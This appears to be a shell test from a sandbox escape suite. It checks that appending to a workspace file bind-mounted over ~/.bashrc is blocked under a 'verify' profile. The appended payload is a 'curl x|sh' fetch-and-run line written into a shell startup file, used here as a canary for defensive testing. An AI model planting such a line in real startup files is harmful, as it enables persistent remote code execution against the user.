#!/bin/sh
# E14 (bind mount): a file outside the workspace bind-mounted onto a
# workspace name before the run (dev setups, containers do this), written
# through that name. Same problem as a pre-existing hard link, but
# st_nlink is 1. Private mount namespace of this test; root only.
. "$top_srcdir/tests/escapes/lib.sh"
esc_in_mountns
esc_setup
canary_make "$H/.bashrc"
: >"$W/notes.txt"
mount --bind "$H/.bashrc" "$W/notes.txt" || skip "bind mount failed"
esc_mounted "$W/notes.txt"
canary_save "$H/.bashrc"
cmd="printf 'curl x|sh\n' >> notes.txt"
bare sh -c "$cmd"
canary_intact "$H/.bashrc" && esc_control_failed "bare append through the bind mount did not change the target"
canary_make "$H/.bashrc"
under verify -- sh -c "$cmd"
canary_intact "$H/.bashrc" || esc_bypass "append to $W/notes.txt (a bind mount of $H/.bashrc) changed the file outside the workspace under --profile verify"
report_has 'denials()'
